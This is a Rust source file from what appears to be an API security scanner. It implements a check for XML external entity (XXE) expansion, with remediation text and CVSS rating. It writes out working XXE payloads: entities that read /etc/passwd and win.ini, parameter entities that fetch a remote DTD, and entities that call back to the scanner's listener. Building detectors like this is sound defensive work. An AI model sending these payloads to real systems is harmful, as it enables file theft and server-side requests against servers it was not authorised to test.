//! S-XXE: entities of XML documents that clients send are expanded.

use async_trait::async_trait;
use serde_json::Value;

use crate::callback::{Callback, Hit, Reply};
use crate::check::security::point::{Point, of_operation};
use crate::check::security::{is_echo, may_repeat, privileges, rightful};
use crate::check::{CheckInfo, Exchange, SecurityCheck, SecurityContext, Suspicion, Turn};
use crate::finding::{Confidence, Finding, Role, Severity};
use crate::generate::body::{Codec, bytes};
use crate::spec::{MediaType, Operation};
use crate::transport::Request;

/// Operations tried in one scan.
const MAX_OPERATIONS: usize = 30;
/// Texts of one body that get an entity.
const MAX_TEXTS: usize = 2;

/// S-XXE.
pub(super) struct ExternalEntity;

static INFO: CheckInfo = CheckInfo {
    id: "S-XXE",
    title: "Entities of XML documents are expanded",
    description: "The server reads the document type of XML that clients send. Entities there make it open files and URLs, or grow a small document to any size.",
    remediation: "Refuse documents with a DOCTYPE, or switch document types, external entities and entity expansion off in the XML parser. Accept XML only where it is meant to be sent.",
    cwe: &["CWE-611", "CWE-776"],
    owasp: Some("API8:2023"),
};

const EXTERNAL: &str = "S:U/C:H/I:N/A:L";
const INTERNAL: &str = "S:U/C:N/I:N/A:L";

/// Files that every machine of a kind has, and how they begin or what they contain.
const FILES: [(&str, &str); 2] = [("file:///etc/passwd", "root:x:0:0:"), ("file:///c:/windows/win.ini", "[fonts]")];

#[async_trait]
impl SecurityCheck for ExternalEntity {
    fn info(&self) -> &'static CheckInfo {
        &INFO
    }

    fn turn(&self) -> Turn {
        Turn::Write
    }

    async fn run(&self, cx: &SecurityContext<'_>) -> Vec<Finding> {
        let sheets = sheets(cx);
        let mut sent = Vec::new();
        for sheet in &sheets {
            sent.push(if sheet.is_first { sheet.reach_out(cx).await } else { None });
        }
        if let Some(callback) = cx.callback.filter(|_| sent.iter().any(Option::is_some)) {
            // All at once: most of them are never asked for.
            let words: Vec<&str> = sent.iter().flatten().flat_map(|one| one.words.iter().map(String::as_str)).collect();
            callback.wait(&words).await;
        }
        let mut found: Vec<(usize, Finding)> = Vec::new();
        for (sheet, probe) in sheets.iter().zip(&sent) {
            // What reaches out of the document says it all.
            if found.iter().any(|(operation, _)| *operation == sheet.operation.index) {
                continue;
            }
            let external = match probe {
                Some(probe) => sheet.external(cx, probe).await,
                None => None,
            };
            let finding = match external {
                Some(finding) => Some(finding),
                None => sheet.internal(cx).await,
            };
            found.extend(finding.map(|finding| (sheet.operation.index, finding)));
        }
        found.into_iter().map(|(_, finding)| finding).collect()
    }
}

/// Places for entities: some texts of each body.
fn sheets<'a>(cx: &SecurityContext<'a>) -> Vec<Sheet<'a>> {
    let with_body = cx.api.operations.iter().filter(|one| one.body.is_some() && may_repeat(cx, &one.method));
    let of = |operation: &'a Operation| {
        let points = of_operation(cx, operation).into_iter();
        let texts = points.filter(|point| point.value.is_string() && point.location.starts_with("body"));
        let sheet = move |(at, point): (usize, Point<'a>)| Sheet { point, operation, is_first: at == 0 };
        texts.take(MAX_TEXTS).enumerate().map(sheet).collect::<Vec<_>>()
    };
    with_body.take(cx.at_most(MAX_OPERATIONS)).flat_map(of).collect()
}

/// A document whose entities are at the scan's listener.
struct Reached {
    exchange: Exchange,
    words: [String; 2],
}

impl Reached {
    fn hit(&self, callback: &Callback) -> Option<Hit> {
        self.words.iter().find_map(|word| callback.hits(word).into_iter().next())
    }
}

/// The XML body of an operation with a place for an entity.
struct Sheet<'a> {
    point: Point<'a>,
    operation: &'a Operation,
    is_first: bool,
}

impl Sheet<'_> {
    /// The accepted body as XML, with this document type and this content at the place.
    fn request(&self, cx: &SecurityContext<'_>, definitions: &str, content: &str) -> Option<Request> {
        let mark = cx.prober.nonce();
        let mut request = self.point.with(cx, Value::from(mark.as_str()))?;
        let media = String::from_utf8_lossy(request.header("content-type")?).into_owned();
        let body = request.body.as_deref()?;
        let xml = match Codec::of(&media) {
            Codec::Xml => String::from_utf8(body.to_vec()).ok()?,
            Codec::Json => {
                let value: Value = serde_json::from_slice(body).ok()?;
                let media = MediaType::anything("application/xml", String::new());
                request.set_header("Content-Type", "application/xml");
                String::from_utf8(bytes(&media, &value).ok()?).ok()?
            }
            _ => return None,
        };
        let text = with_type(&xml, definitions)?.replace(&mark, content);
        request.body = Some(text.into_bytes().into());
        Some(request)
    }

    async fn send(&self, cx: &SecurityContext<'_>, definitions: &str, content: &str) -> Option<Exchange> {
        let request = self.request(cx, definitions, content)?;
        cx.prober.send(Some(self.operation.index), request, rightful(cx)).await
    }

    /// Sends entities whose text is at the scan's listener.
    async fn reach_out(&self, cx: &SecurityContext<'_>) -> Option<Reached> {
        let callback = cx.callback?;
        let subset = callback.announce(&cx.prober.nonce(), Reply::Dtd("<!ENTITY natempty \"\">".to_owned()));
        let entity = callback.announce(&cx.prober.nonce(), Reply::Text("text".to_owned()));
        let definitions = format!(
            "<!ENTITY natx SYSTEM \"{}\"><!ENTITY % natp SYSTEM \"{}\"> %natp;",
            callback.url(&entity),
            callback.url(&subset)
        );
        let exchange = self.send(cx, &definitions, "&natx;").await?;
        Some(Reached { exchange, words: [entity, subset] })
    }

    /// What was reached is reached again, and not because its address stands somewhere.
    async fn external(&self, cx: &SecurityContext<'_>, probe: &Reached) -> Option<Finding> {
        let callback = cx.callback?;
        let hit = probe.hit(callback)?;
        let word = callback.announce(&cx.prober.nonce(), Reply::Text("text".to_owned()));
        let control = self.send(cx, "", &callback.url(&word)).await?;
        let again = self.reach_out(cx).await?;
        callback.wait(&[&again.words[0]]).await;
        again.hit(callback)?;
        if !callback.hits(&word).is_empty() {
            return None;
        }
        let (probe, repeat) = (&probe.exchange, &again.exchange);
        let explanation = format!(
            "An entity of the XML document that was sent made {} ask the scan's listener for {}, and another one did so \
             again. The same address as plain text was not asked for.",
            hit.peer.ip(),
            hit.path
        );
        Some(self.finding(cx, "external", EXTERNAL, explanation, [probe, &control, repeat]))
    }

    /// An entity whose text is in the document itself.
    async fn internal(&self, cx: &SecurityContext<'_>) -> Option<Finding> {
        let ask = async |definitions: bool| {
            let (one, two) = (cx.prober.nonce(), cx.prober.nonce());
            let text = format!("<!ENTITY nata \"{one}\"><!ENTITY natb \"{two}\">");
            let exchange = match definitions {
                true => self.send(cx, &text, "&nata;&natb;").await?,
                false => self.send(cx, "", &format!("{one} {two}")).await?,
            };
            let joined = format!("{one}{two}");
            let shown = contains(&exchange, &joined) && !is_echo(&exchange.request, &joined);
            Some((exchange, shown))
        };
        let (probe, true) = ask(true).await? else { return None };
        let (control, false) = ask(false).await? else { return None };
        let (repeat, true) = ask(true).await? else { return None };
        for (file, sign) in FILES {
            if let Some(finding) = self.file(cx, file, sign, &control).await {
                return Some(finding);
            }
        }
        let explanation =
            "Two entities that the document itself defines came back expanded and joined; their joined text \
                           was not in the request. A document without them got nothing of the kind."
                .to_owned();
        Some(self.finding(cx, "internal", INTERNAL, explanation, [&probe, &control, &repeat]))
    }

    /// An entity whose text is a file of the machine.
    async fn file(&self, cx: &SecurityContext<'_>, file: &str, sign: &str, control: &Exchange) -> Option<Finding> {
        let definitions = format!("<!ENTITY natf SYSTEM \"{file}\">");
        let mut seen = Vec::new();
        for _ in 0..2 {
            let exchange = self.send(cx, &definitions, "&natf;").await?;
            if !contains(&exchange, sign) || contains(control, sign) {
                return None;
            }
            seen.push(exchange);
        }
        let explanation = format!("An entity that names {file} came back with what such a file contains, twice.");
        Some(self.finding(cx, "file", EXTERNAL, explanation, [&seen[0], control, &seen[1]]))
    }

    fn finding(
        &self,
        cx: &SecurityContext<'_>,
        discriminant: &str,
        impact: &str,
        explanation: String,
        [probe, control, repeat]: [&Exchange; 3],
    ) -> Finding {
        let suspicion = Suspicion::new(Severity::High, "body", discriminant, explanation)
            .confidence(Confidence::Confirmed)
            .pointer(self.operation.pointer.clone());
        let exchanges = [(Role::Probe, probe), (Role::Control, control), (Role::Repeat, repeat)];
        let finding = cx.report.build(&INFO, &suspicion, Some(self.operation), &exchanges);
        finding.rated(&format!("CVSS:3.1/AV:N/AC:L/PR:{}/UI:N/{impact}", privileges(cx, self.operation)))
    }
}

fn contains(exchange: &Exchange, text: &str) -> bool {
    // A refusal that quotes the text shows as much.
    exchange.response().is_some_and(|response| String::from_utf8_lossy(&response.body).contains(text))
}

/// The document with a document type before its root.
fn with_type(xml: &str, definitions: &str) -> Option<String> {
    let start = xml.find("?>").map_or(0, |end| end + 2);
    let (head, root) = xml.split_at(start);
    let name: String = root.trim_start().strip_prefix('<')?.chars().take_while(|c| !" />\t\r\n".contains(*c)).collect();
    if definitions.is_empty() {
        return Some(xml.to_owned());
    }
    Some(format!("{head}<!DOCTYPE {name} [{definitions}]>{root}"))
}
